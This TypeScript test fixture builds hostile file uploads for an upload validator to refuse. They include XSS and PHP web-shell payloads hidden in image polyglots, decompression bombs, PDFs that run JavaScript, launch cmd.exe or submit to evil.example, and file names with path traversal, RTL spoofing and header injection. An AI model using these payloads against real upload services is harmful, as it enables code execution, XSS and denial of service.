/** Files for trying what people may send: honest ones of each kind, and well over 150 that are meant to do harm. */
import { crc32, deflateSync } from "node:zlib";

export interface Upload {
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
}

const bytesOf = (...parts: readonly (string | Uint8Array)[]): Uint8Array => new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part))));
const u16 = (value: number): Uint8Array => Uint8Array.of((value >> 8) & 0xff, value & 0xff);
const u32 = (value: number): Uint8Array => Uint8Array.of((value >>> 24) & 0xff, (value >>> 16) & 0xff, (value >>> 8) & 0xff, value & 0xff);
const little32 = (value: number): Uint8Array => u32(value).reverse();

export const pngChunk = (kind: string, data: Uint8Array): Uint8Array => bytesOf(u32(data.length), kind, data, u32(crc32(bytesOf(kind, data))));
const pngHead = (width: number, height: number): Uint8Array => pngChunk("IHDR", bytesOf(u32(width), u32(height), Uint8Array.of(8, 0, 0, 0, 0)));
const signature: string = "\u0089PNG\r\n\u001a\n";

interface PngWish {
  readonly width?: number;
  readonly height?: number;
  /** Bytes its packed pixels come to. */
  readonly raw?: number;
  readonly extra?: Uint8Array;
  readonly after?: Uint8Array;
}

export const png = ({ width = 4, height = 3, raw = height * (1 + width), extra = bytesOf(), after = bytesOf() }: PngWish = {}): Uint8Array =>
  bytesOf(signature, pngHead(width, height), extra, pngChunk("IDAT", deflateSync(Buffer.alloc(raw))), pngChunk("IEND", bytesOf()), after);

export const jpegSegment = (marker: number, data: Uint8Array): Uint8Array => bytesOf(Uint8Array.of(0xff, marker), u16(data.length + 2), data);
const frame = (width: number, height: number): Uint8Array => jpegSegment(0xc0, bytesOf(Uint8Array.of(8), u16(height), u16(width), Uint8Array.of(1, 1, 0x11, 0)));

/** By structure a JPEG; nobody decodes it. */
export const jpeg = ({ width = 4, height = 3, extra = bytesOf(), after = bytesOf() } = {}): Uint8Array => bytesOf(
  Uint8Array.of(0xff, 0xd8), jpegSegment(0xe0, bytesOf("JFIF\u0000", Uint8Array.of(1, 1, 0, 0, 1, 0, 1, 0, 0))), extra, jpegSegment(0xdb, new Uint8Array(65)), frame(width, height),
  jpegSegment(0xda, Uint8Array.of(1, 1, 0, 0, 63, 0)), Uint8Array.of(1, 2, 0xff, 0x00, 3, 0xff, 0xd0, 4), Uint8Array.of(0xff, 0xd9), after,
);

/** EXIF with a turn and a place. */
export const exif = (turn: number): Uint8Array => jpegSegment(0xe1, bytesOf(
  "Exif\u0000\u0000MM\u0000*", u32(8), u16(2), u16(0x0112), u16(3), u32(1), u16(turn), u16(0), u16(0x8825), u16(4), u32(1), u32(50), u32(0), "GPS 52.5200 13.4050",
));

export const webpChunk = (kind: string, data: Uint8Array): Uint8Array => bytesOf(kind, little32(data.length), data, new Uint8Array(data.length % 2));
const lossless = (width: number, height: number): Uint8Array => webpChunk("VP8L", bytesOf(Uint8Array.of(0x2f), little32((((height - 1) & 0x3fff) << 14) | ((width - 1) & 0x3fff)), "pixels!"));
const three = (value: number): Uint8Array => Uint8Array.of(value & 0xff, (value >> 8) & 0xff, (value >> 16) & 0xff);
export const webpFlags = (width: number, height: number, flags: number): Uint8Array => webpChunk("VP8X", bytesOf(Uint8Array.of(flags, 0, 0, 0), three(width - 1), three(height - 1)));

export function webp({ width = 4, height = 3, before = bytesOf(), extra = bytesOf(), after = bytesOf() } = {}): Uint8Array {
  const body = bytesOf("WEBP", before, lossless(width, height), extra);
  return bytesOf("RIFF", little32(body.length), body, after);
}

export const pdf = (inside = "", after = ""): Uint8Array => bytesOf(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${inside} >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n${after}`);
const packedPdf = (packed: Uint8Array): Uint8Array => bytesOf("%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n", packed, "\nendstream\nendobj\n%%EOF\n");

export const honest: readonly Upload[] = [
  { what: "JPEG", name: "shelf.jpg", bytes: jpeg() }, { what: "JPEG with a place", name: "IMG_0001.JPG", bytes: jpeg({ extra: exif(6) }) }, { what: "PNG", name: "screen.png", bytes: png() },
  { what: "WebP", name: "photo.webp", bytes: webp() }, { what: "PDF", name: "Rechnung März.pdf", bytes: pdf("/OpenAction [3 0 R /Fit]") },
];

const payloads: Readonly<Record<string, string>> = {
  script: "<script>alert(1)</script>", html: "<html><body onload=alert(1)>", svg: "<svg onload=alert(1)>", php: "<?php system($_GET[0]);", zip: "PK\u0003\u0004\u0014\u0000", elf: "\u007fELF\u0002", frame: "<iframe src=javascript:alert(1)>", doctype: "<!DOCTYPE html><a>",
};

const disguises = (): Upload[] => {
  const contents: Readonly<Record<string, string>> = {
    ...payloads, xml: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', gif: "GIF89a/*\u0000*/=1;alert(1)", bmp: "BM\u0000\u0000", tiff: "II*\u0000", avif: "\u0000\u0000\u0000 ftypavif",
    mp4: "\u0000\u0000\u0000 ftypisom", exe: "MZ\u0090\u0000", ico: "\u0000\u0000\u0001\u0000", text: "alert(1)//", signature: "\u0089PNG", half: "\u00ff\u00d8", riff: "RIFF\u0004\u0000\u0000\u0000WAVE",
  };
  return Object.entries(contents).flatMap(([what, text]) => ["picture.png", "picture.jpg", "paper.pdf"].map((name) => ({ what: `${what} as ${name}`, name, bytes: bytesOf(text) })));
};

const polyglots = (): Upload[] => Object.entries(payloads).flatMap(([what, text]) => {
  const data = bytesOf(text);
  const made = {
    "comment of a JPEG": jpeg({ extra: jpegSegment(0xfe, data) }), "EXIF of a JPEG": jpeg({ extra: jpegSegment(0xe1, bytesOf("Exif\u0000\u0000", data)) }), "end of a JPEG": jpeg({ after: data }),
    "text of a PNG": png({ extra: pngChunk("tEXt", bytesOf("Comment\u0000", data)) }), "end of a PNG": png({ after: data }), "chunk of a WebP": webp({ extra: webpChunk("XMP ", data) }), "end of a WebP": webp({ after: data }), "end of a PDF": pdf("", text),
  };
  return Object.entries(made).map(([where, bytes]) => ({ what: `${what} at the ${where}`, name: "picture.jpg", bytes }));
});

const sizes = (): Upload[] => [
  { what: "PNG of 30,000 x 30,000", name: "a.png", bytes: png({ width: 30_000, height: 30_000, raw: 10 }) }, { what: "PNG of 2^31", name: "a.png", bytes: png({ width: 0x7fffffff, height: 0x7fffffff, raw: 10 }) },
  { what: "PNG of nought", name: "a.png", bytes: png({ width: 0, raw: 3 }) }, { what: "JPEG of 65,535", name: "a.jpg", bytes: jpeg({ width: 65_535, height: 65_535 }) }, { what: "JPEG of nought", name: "a.jpg", bytes: jpeg({ height: 0 }) },
  { what: "WebP of 16,384", name: "a.webp", bytes: webp({ width: 16_384, height: 16_384 }) }, { what: "WebP with a canvas of 16 million", name: "a.webp", bytes: webp({ before: webpFlags(0x1000000, 0x1000000, 0) }) },
  { what: "WebP with a canvas of another size", name: "a.webp", bytes: webp({ before: webpFlags(8, 8, 0) }) }, { what: "PNG that unpacks to 100 MB", name: "a.png", bytes: png({ raw: 100_000_000 }) }, { what: "PNG that unpacks to too little", name: "a.png", bytes: png({ raw: 3 }) },
  { what: "PDF that unpacks to 100 MB", name: "a.pdf", bytes: packedPdf(deflateSync(Buffer.alloc(100_000_000, "a"))) }, { what: "nothing", name: "a.png", bytes: bytesOf() }, { what: "more than 8 MiB", name: "a.jpg", bytes: jpeg({ after: new Uint8Array(8 * 1024 * 1024) }) },
];

const broken = (): Upload[] => [
  ...honest.flatMap(({ what, name, bytes }) => [0.2, 0.4, 0.6, 0.8, 0.95].map((part) => ({ what: `${what} cut at ${part * 100} %`, name, bytes: bytes.slice(0, Math.floor(bytes.length * part)) }))),
  { what: "PNG chunk of 4 GB", name: "a.png", bytes: bytesOf(signature, u32(0xffffffff), "IHDR", new Uint8Array(40)) }, { what: "PNG text of 4 GB", name: "a.png", bytes: bytesOf(signature, pngHead(1, 1), u32(0xfffffff0), "tEXt") },
  { what: "JPEG segment behind the end", name: "a.jpg", bytes: bytesOf(Uint8Array.of(0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 1, 2)) }, { what: "JPEG segment of nought", name: "a.jpg", bytes: bytesOf(Uint8Array.of(0xff, 0xd8, 0xff, 0xe1, 0, 0, 0xff, 0xd9)) },
  { what: "WebP chunk of 4 GB", name: "a.webp", bytes: bytesOf("RIFF", little32(100), "WEBPVP8L", little32(0xffffffff), new Uint8Array(92)) }, { what: "WebP that says 4 GB", name: "a.webp", bytes: bytesOf("RIFF", little32(0xfffffff0), "WEBP") },
  { what: "PNG with a wrong sum", name: "a.png", bytes: png().map((byte, at) => (at === 29 ? byte ^ 1 : byte)) }, { what: "PNG with an unknown needed chunk", name: "a.png", bytes: png({ extra: pngChunk("EVIL", bytesOf("x")) }) },
  { what: "JPEG of two sizes", name: "a.jpg", bytes: jpeg({ extra: frame(9, 9) }) }, { what: "WebP of two pictures", name: "a.webp", bytes: webp({ extra: lossless(9, 9) }) },
  { what: "moving PNG", name: "a.png", bytes: png({ extra: pngChunk("acTL", new Uint8Array(8)) }) }, { what: "moving WebP", name: "a.webp", bytes: webp({ before: webpFlags(4, 3, 2), extra: webpChunk("ANMF", new Uint8Array(24)) }) },
];

const activePdfs = (): Upload[] => [
  ...["/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "/AA << /O << /S /J#61vaScript >> >>", "/S /#4A#53", "/S /Launch /F (cmd.exe)", "/EmbeddedFile", "/Names << /EmbeddedFiles 3 0 R >>", "/AcroForm << /XFA 4 0 R >>", "/S /SubmitForm /F (https://evil.example)", "/RichMedia", "/Encrypt 5 0 R"]
    .map((inside) => ({ what: `PDF with ${inside}`, name: "a.pdf", bytes: pdf(inside) })),
  { what: "PDF with a packed script", name: "a.pdf", bytes: packedPdf(deflateSync(Buffer.from("<< /S /JavaScript /JS (app.alert(1)) >>"))) }, { what: "PDF with a broken pack", name: "a.pdf", bytes: packedPdf(bytesOf("not packed")) },
];

const oddNames = (): Upload[] => [
  "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\Windows\\a.png", "a/../b.png", "..", "photo\u202egnp.exe", "\u202eabc.png", "photo\u2066.png", "a\u200f.png", "photo\u200b.png", "a\u0000.png", "a\r\nSet-Cookie: x.png", "a\u001b[2J.png", `${"x".repeat(300)}.png`, "a\u2028.png",
].map((name) => ({ what: `the name ${JSON.stringify(name).slice(0, 40)}`, name, bytes: png() }));

/** Each of them must be refused. */
export const hostileUploads = (): readonly Upload[] => [...disguises(), ...polyglots(), ...sizes(), ...broken(), ...activePdfs(), ...oddNames()];
